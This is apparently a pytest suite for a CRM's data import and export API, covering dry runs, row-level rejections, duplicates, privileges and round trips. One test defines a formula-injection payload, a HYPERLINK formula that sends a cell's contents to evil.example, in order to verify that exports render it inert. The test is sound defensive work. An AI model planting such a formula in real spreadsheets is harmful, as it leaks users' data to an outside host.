"""Import and export as a user of the Import Data Wizard meets them: a dry run that says what would happen to
each row and writes nothing, a real import that keeps the good rows and reports the bad ones, updates by a
key, duplicates caught, privileges enforced, and exports that spreadsheets open safely and import back."""

import csv
import io
import json
from typing import Any

import pytest
from openpyxl import Workbook, load_workbook
from sqlalchemy import func, select
from sqlalchemy.orm import Session, sessionmaker

from crm_core.models import Account, AuditEntry, Contact
from tests.api import created, problem
from tests.conftest import _wipe
from tests.org import OrgBuilder, TestUser


def upload(
    client: Any,
    user: TestUser,
    content: bytes,
    entity: str,
    filename: str = "data.csv",
    mapping: dict[str, str] | None = None,
    **options: Any,
) -> Any:
    data = {"entity": entity, "options": json.dumps(options)}
    if mapping is not None:
        data["mapping"] = json.dumps(mapping)
    return client.post("/api/v1/imports", headers=user.headers, data=data, files={"file": (filename, content)})


def imported(client: Any, user: TestUser, content: bytes, entity: str, **kwargs: Any) -> dict[str, Any]:
    r = upload(client, user, content, entity, **kwargs)
    assert r.status_code == 200, r.text
    return r.json()  # type: ignore[no-any-return]


def count(factory: sessionmaker[Session], model: Any) -> int:
    with factory() as session:
        return session.scalar(select(func.count()).select_from(model)) or 0


def csv_bytes(rows: list[list[str]], delimiter: str = ",", bom: bool = False) -> bytes:
    out = io.StringIO()
    csv.writer(out, delimiter=delimiter).writerows(rows)
    return ("\ufeff" if bom else "").encode() + out.getvalue().encode()


def export(client: Any, user: TestUser, entity: str, fmt: str = "csv", **params: Any) -> list[list[Any]]:
    r = client.get(f"/api/v1/exports/{entity}", headers=user.headers, params={"format": fmt, **params})
    assert r.status_code == 200, r.text
    if fmt == "csv":
        assert r.content.startswith(b"\xef\xbb\xbf")  # a BOM, so that Excel reads the accents right
        return list(csv.reader(io.StringIO(r.content.decode("utf-8-sig"))))
    book = load_workbook(io.BytesIO(r.content), read_only=True)
    try:
        return [["" if v is None else v for v in row] for row in book.worksheets[0].iter_rows(values_only=True)]
    finally:
        book.close()


def by_header(table: list[list[Any]]) -> list[dict[str, Any]]:
    return [dict(zip(table[0], row, strict=True)) for row in table[1:]]


# --- the check of the issue: bad rows in a dry run and in a real import ------------------------------------
BAD_FILE = [
    ["First Name", "Last Name", "Email", "Parent Account", "Birth Date", "Preferred Contact Method"],
    ["Ann", "Good", "ann@example.com", "Contoso", "1980-05-17", "Email"],  # row 2: fine
    ["Bad", "Mail", "not-an-email", "", "", ""],  # row 3
    ["Lost", "Account", "lost@example.com", "Nowhere Ltd", "", ""],  # row 4
    ["Odd", "Date", "odd@example.com", "", "next tuesday", ""],  # row 5
    ["No", "", "noname@example.com", "", "", ""],  # row 6: no last name
    ["Old", "Friend", "Existing@Example.com", "", "", ""],  # row 7: the existing contact's address
    ["Ann", "Again", "ANN@example.com", "", "", ""],  # row 8: row 2's address
    ["Bob", "Fine", "bob@example.com", "", "", "3"],  # row 9: fine
]


def test_dry_run_reports_each_bad_row_and_writes_nothing_then_the_import_skips_them(
    client: Any, admin: TestUser, session_factory: sessionmaker[Session]
) -> None:
    contoso = created(client, admin, "accounts", {"name": "Contoso"})
    created(client, admin, "contacts", {"last_name": "Existing", "email_address1": "existing@example.com"})
    content = csv_bytes(BAD_FILE)
    before = count(session_factory, Contact), count(session_factory, AuditEntry)

    dry = imported(client, admin, content, "contact", mapping={"Email": "email_address1"}, dry_run=True)
    assert (dry["dry_run"], dry["total"], dry["created"], dry["rejected"]) == (True, 8, 2, 6)
    rejected = {r["row"]: r for r in dry["rows"] if r["action"] == "rejected"}
    assert rejected[3]["column"] == "Email" and "not a valid email address" in rejected[3]["reason"]
    assert rejected[4]["column"] == "Parent Account" and "no account named 'Nowhere Ltd'" in rejected[4]["reason"]
    assert rejected[5]["column"] == "Birth Date" and "'next tuesday' is not a date" in rejected[5]["reason"]
    assert rejected[6]["column"] == "Last Name" and "required" in rejected[6]["reason"]
    assert rejected[7]["column"] == "Email" and "duplicate of the existing contact" in rejected[7]["reason"]
    assert rejected[8]["column"] == "Email" and "duplicate of row 2 of this file" in rejected[8]["reason"]
    assert dry["mapping"]["Parent Account"] == "parent_account_id"
    assert (count(session_factory, Contact), count(session_factory, AuditEntry)) == before  # nothing written

    real = imported(client, admin, content, "contact", mapping={"Email": "email_address1"})
    assert (real["dry_run"], real["created"], real["rejected"]) == (False, 2, 6)
    assert {r["row"]: r["reason"] for r in real["rows"] if r["action"] == "rejected"} == {
        n: r["reason"] for n, r in rejected.items()
    }  # the dry run said what the import did
    assert count(session_factory, Contact) == before[0] + 2
    ann = client.get("/api/v1/contacts", headers=admin.headers, params={"email_address1": "ann@example.com"})
    [ann_out] = ann.json()["items"]
    assert ann_out["parent_account_id"] == contoso["id"]  # the lookup by the account's name
    assert ann_out["birth_date"] == "1980-05-17" and ann_out["preferred_contact_method_code"] == 2  # by label
    bob = client.get("/api/v1/contacts", headers=admin.headers, params={"email_address1": "bob@example.com"})
    assert bob.json()["items"][0]["preferred_contact_method_code"] == 3  # by value
    audit = client.get(f"/api/v1/contacts/{ann_out['id']}/audit", headers=admin.headers)
    assert audit.status_code == 200 and audit.json()  # audited as any create


def test_updates_by_key_and_says_what_is_unchanged(
    client: Any, admin: TestUser, session_factory: sessionmaker[Session]
) -> None:
    created(client, admin, "accounts", {"name": "Fabrikam", "account_number": "F-1", "telephone1": "555 0100"})
    created(client, admin, "accounts", {"name": "Litware", "account_number": "L-1"})
    rows = [
        ["account_number", "name", "telephone1", "revenue"],
        ["f-1", "Fabrikam Inc", "555 0100", "1250000.50"],  # the key matches case blind: updated
        ["L-1", "Litware", "", ""],  # nothing differs: unchanged
        ["N-1", "Northwind", "", "12"],
    ]  # no match: created
    report = imported(client, admin, csv_bytes(rows, delimiter=";"), "accounts", key="account_number")
    assert [r["action"] for r in report["rows"]] == ["updated", "unchanged", "created"]
    assert count(session_factory, Account) == 3
    fabrikam = client.get("/api/v1/accounts", headers=admin.headers, params={"account_number": "F-1"})
    assert fabrikam.json()["items"][0]["name"] == "Fabrikam Inc"
    assert fabrikam.json()["items"][0]["revenue"] in ("1250000.5", "1250000.50", "1250000.5000")

    problem(upload(client, admin, csv_bytes(rows), "account", key="telephone2"), 422, "key")


def test_update_on_duplicate_and_create_anyway(
    client: Any, admin: TestUser, session_factory: sessionmaker[Session]
) -> None:
    created(client, admin, "contacts", {"last_name": "Smith", "email_address1": "jo@example.com"})
    rows = [["last_name", "job_title", "email_address1"], ["Smith", "Buyer", "JO@example.com"]]
    report = imported(client, admin, csv_bytes(rows, bom=True), "contact", on_duplicate="update")
    assert report["rows"][0]["action"] == "updated" and count(session_factory, Contact) == 1
    report = imported(client, admin, csv_bytes(rows), "contact", on_duplicate="create")
    assert report["rows"][0]["action"] == "created" and count(session_factory, Contact) == 2


def test_without_create_privilege_nothing_is_written(
    client: Any, org: OrgBuilder, admin: TestUser, session_factory: sessionmaker[Session]
) -> None:
    created(
        client,
        admin,
        "security-roles",
        {"name": "Contact Reader", "privileges": [{"entity": "contact", "privilege": "read", "depth": "organization"}]},
    )
    reader = org.user("reader@example.com", ["Contact Reader"])
    content = csv_bytes([["last_name"], ["Nobody"]])
    for dry_run in (True, False):
        body = problem(upload(client, reader, content, "contact", dry_run=dry_run), 403)
        assert "create" in body["detail"]
    assert count(session_factory, Contact) == 0
    assert client.get("/api/v1/exports/contacts", headers=reader.headers).status_code == 200  # he may read
    problem(client.get("/api/v1/exports/accounts", headers=reader.headers), 403)
    problem(client.get("/api/v1/exports/contacts"), 401)


def test_hostile_cells_are_exported_inert_and_import_back_unchanged(client: Any, admin: TestUser) -> None:
    hostile = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'
    created(
        client,
        admin,
        "contacts",
        {"last_name": "+1 555 0100", "first_name": "@SUM(A1)", "description": hostile, "job_title": "-2+3"},
    )
    [row] = by_header(export(client, admin, "contacts", columns="first_name,last_name,description,job_title"))
    assert row == {
        "first_name": "'@SUM(A1)",
        "last_name": "'+1 555 0100",
        "description": "'" + hostile,
        "job_title": "'-2+3",
    }
    r = client.get("/api/v1/exports/contacts", headers=admin.headers, params={"format": "xlsx"})
    book = load_workbook(io.BytesIO(r.content))  # not read-only: cell types are kept
    cells = {c.value: c.data_type for c in book.worksheets[0][2]}
    book.close()
    assert "'" + hostile in cells and cells["'" + hostile] == "s"  # text, never a formula ("f")

    again = export(client, admin, "contacts", columns="first_name,last_name,description,job_title")
    out = io.StringIO()
    csv.writer(out).writerows(again)
    report = imported(client, admin, out.getvalue().encode(), "contact", on_duplicate="create")
    assert report["created"] == 1
    items = client.get("/api/v1/contacts", headers=admin.headers, params={"sort": "created_on"}).json()["items"]
    assert {i["description"] for i in items} == {hostile}
    assert {i["first_name"] for i in items} == {"@SUM(A1)"}


# --- round trips -------------------------------------------------------------------------------------------
@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_round_trip_into_a_fresh_organisation(
    client: Any, admin: TestUser, engine: Any, session_factory: sessionmaker[Session], fmt: str
) -> None:
    contoso = created(
        client,
        admin,
        "accounts",
        {"name": "Contoso", "account_number": "C-1", "revenue": "1000.5", "do_not_email": True, "industry_code": 3},
    )
    created(client, admin, "accounts", {"name": "Contoso East", "parent_account_id": contoso["id"]})
    created(
        client,
        admin,
        "contacts",
        {
            "first_name": "Zoë",
            "last_name": "Ångström",
            "birth_date": "1979-02-28",
            "email_address1": "zoe@example.com",
            "parent_account_id": contoso["id"],
            "preferred_contact_method_code": 2,
            "description": "line 1\nline 2",
        },
    )
    created(client, admin, "contacts", {"last_name": "Solo"})
    files = {e: export(client, admin, e, fmt) for e in ("accounts", "contacts")}
    assert "parent_account" in files["contacts"][0] and "Contoso" in [
        r[files["contacts"][0].index("parent_account")] for r in files["contacts"][1:]
    ]

    _wipe(engine)
    fresh = OrgBuilder(session_factory).admin("second@example.com")
    for name, table in files.items():
        report = imported(client, fresh, _as_file(table, fmt), name, filename=f"{name}.{fmt}")
        assert report["rejected"] == 0, report
        assert report["created"] == len(table) - 1
    for name, table in files.items():
        before = sorted(_without_id(by_header(table)), key=repr)
        after = sorted(_without_id(by_header(export(client, fresh, name, fmt))), key=repr)
        assert after == before


def _as_file(table: list[list[Any]], fmt: str) -> bytes:
    if fmt == "csv":
        out = io.StringIO()
        csv.writer(out).writerows(table)
        return out.getvalue().encode()
    book = Workbook()
    for row in table:
        book.active.append(row)
    data = io.BytesIO()
    book.save(data)
    return data.getvalue()


def _without_id(rows: list[dict[str, Any]]) -> list[dict[str, Any]]:
    return [{k: v for k, v in row.items() if k != "id"} for row in rows]


def test_workbook_sheet_dates_and_lead_duplicate_rule(client: Any, admin: TestUser) -> None:
    from datetime import date

    book = Workbook()
    book.active.title = "Notes"
    sheet = book.create_sheet("Leads")
    sheet.append(["Topic", "Last Name", "Company Name", "Email", "Rating", "Estimated Amount"])
    sheet.append(["Printers", "Lee", "Adatum", "lee@adatum.example", "Hot", 1200])
    sheet.append(["Paper", "Lee", "Adatum", "other@adatum.example", "Warm", 5.5])  # same company and name
    sheet.append(["Ink", "Kim", "Adatum", "kim@adatum.example", "Tepid", 1])
    data = io.BytesIO()
    book.save(data)
    mapping = {"Topic": "subject", "Email": "email_address1", "Rating": "lead_quality_code"}
    report = imported(
        client, admin, data.getvalue(), "lead", filename="leads.xlsx", mapping=mapping, sheet="Leads", dry_run=True
    )
    actions = [(r["row"], r["action"]) for r in report["rows"]]
    assert actions == [(2, "created"), (3, "rejected"), (4, "rejected")]
    assert "possible duplicates" in report["rows"][1]["reason"]  # the lead service's own rule
    assert report["rows"][2]["column"] == "Rating" and "1 Hot, 2 Warm, 3 Cold" in report["rows"][2]["reason"]
    problem(upload(client, admin, data.getvalue(), "lead", filename="leads.xlsx", sheet="Nope"), 422, "sheet")

    contacts = Workbook()
    contacts.active.append(["last_name", "birth_date"])
    contacts.active.append(["Dated", date(1990, 1, 2)])
    data = io.BytesIO()
    contacts.save(data)
    report = imported(client, admin, data.getvalue(), "contacts", filename="c.xlsx")
    assert report["created"] == 1
    [row] = by_header(export(client, admin, "contacts", columns="last_name,birth_date", statecode=0))
    assert row == {"last_name": "Dated", "birth_date": "1990-01-02"}


def test_mapping_and_filter_mistakes_are_clear(client: Any, admin: TestUser) -> None:
    content = csv_bytes([["Surname"], ["X"]])
    problem(upload(client, admin, content, "contact", mapping={"Nope": "last_name"}), 422, "mapping")
    problem(upload(client, admin, content, "contact", mapping={"Surname": "shoe_size"}), 422, "mapping")
    report = imported(client, admin, content, "contact", mapping={"Surname": "Last Name"}, dry_run=True)
    assert report["created"] == 1 and report["unmapped_columns"] == []
    report = imported(client, admin, csv_bytes([["Surname", "Notes"], ["X", "y"]]), "contact", dry_run=True)
    assert report["unmapped_columns"] == ["Surname", "Notes"] and report["rows"][0]["column"] == "last_name"
    problem(upload(client, admin, content, "spaceship"), 422, "entity")
    problem(upload(client, admin, b"\xff\xfe\x00bad", "contact"), 422, "file")
    problem(client.get("/api/v1/exports/contacts", headers=admin.headers, params={"shoe_size": "9"}), 422)
    problem(client.get("/api/v1/exports/contacts", headers=admin.headers, params={"columns": "secret"}), 422, "columns")


def test_the_api_refuses_files_past_its_row_limit_writing_nothing(
    client: Any, admin: TestUser, session_factory: sessionmaker[Session], monkeypatch: pytest.MonkeyPatch
) -> None:
    from crm_core.api.routes import transfer

    monkeypatch.setattr(transfer, "MAX_IMPORT_ROWS", 2)
    content = csv_bytes([["last_name"], ["One"], ["Two"], ["Three"]])
    body = problem(upload(client, admin, content, "contact"), 422, "file")
    assert "crm import" in body["detail"]
    assert count(session_factory, Contact) == 0


def test_accounts_with_the_same_name_are_duplicates(client: Any, admin: TestUser) -> None:
    created(client, admin, "accounts", {"name": "Litware"})
    rows = [["name", "telephone1"], ["LITWARE ", "1"], ["Adatum", "2"], ["adatum", "3"]]
    report = imported(client, admin, csv_bytes(rows), "account", dry_run=True)
    assert [(r["action"], (r["reason"] or "")[:28]) for r in report["rows"]] == [
        ("rejected", "name: duplicate of the exist"),
        ("created", ""),
        ("rejected", "name: duplicate of row 3 of "),
    ]
    report = imported(client, admin, csv_bytes(rows), "account", on_duplicate="update", dry_run=True)
    assert [r["action"] for r in report["rows"]] == ["updated", "created", "updated"]


def test_a_row_the_user_may_not_change_is_rejected_and_the_others_go_in(
    client: Any, org: OrgBuilder, admin: TestUser, session_factory: sessionmaker[Session]
) -> None:
    created(client, admin, "accounts", {"name": "Admin's", "account_number": "A-1"})
    rep = org.user("rep@example.com", ["Salesperson"])  # reads his unit's accounts, changes only his own
    rows = [["account_number", "name"], ["A-1", "Renamed"], ["R-1", "Rep's own"]]
    report = imported(client, rep, csv_bytes(rows), "account", key="account_number")
    [refused, mine] = report["rows"]
    assert refused["action"] == "rejected" and "write" in refused["reason"]
    assert mine["action"] == "created"
    assert count(session_factory, Account) == 2
    names = {a["name"] for a in client.get("/api/v1/accounts", headers=admin.headers).json()["items"]}
    assert names == {"Admin's", "Rep's own"}
